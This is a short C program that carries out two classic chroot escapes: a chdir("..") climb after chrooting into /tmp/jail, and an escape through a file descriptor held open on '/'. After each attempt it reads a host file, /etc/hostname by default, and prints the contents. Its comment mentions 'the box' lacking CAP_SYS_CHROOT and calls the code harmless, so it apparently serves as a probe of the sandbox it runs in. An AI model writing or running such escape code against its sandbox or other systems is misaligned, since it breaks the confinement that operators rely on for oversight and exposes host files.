/* Classic chroot escapes, then read the host path argv[1] and print what was read.
 * 1. chroot into a subdirectory while keeping a cwd outside it, then chdir("..") upwards
 *    and chroot(".") at the top; 2. the same with an fd kept open on "/".
 * Needs CAP_SYS_CHROOT; the box has none. Harmless: only reads argv[1]. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void try_read(const char *what, const char *path) {
    char buf[256];
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("%s: cannot open %s\n", what, path); return; }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    buf[n > 0 ? n : 0] = 0;
    printf("%s: READ %s\n", what, buf);
}

int main(int argc, char **argv) {
    const char *target = argc > 1 ? argv[1] : "/etc/hostname";
    mkdir("/tmp/jail", 0755);
    int root = open("/", O_RDONLY | O_DIRECTORY);
    printf("chroot jail: %d\n", chroot("/tmp/jail"));
    for (int i = 0; i < 64; i++) chdir("..");
    printf("chroot .: %d\n", chroot("."));
    try_read("after chdir(..)", target);
    if (root >= 0 && fchdir(root) == 0) {
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
        try_read("after fchdir(root)", target);
    }
    try_read("plain", target);
    return 0;
}
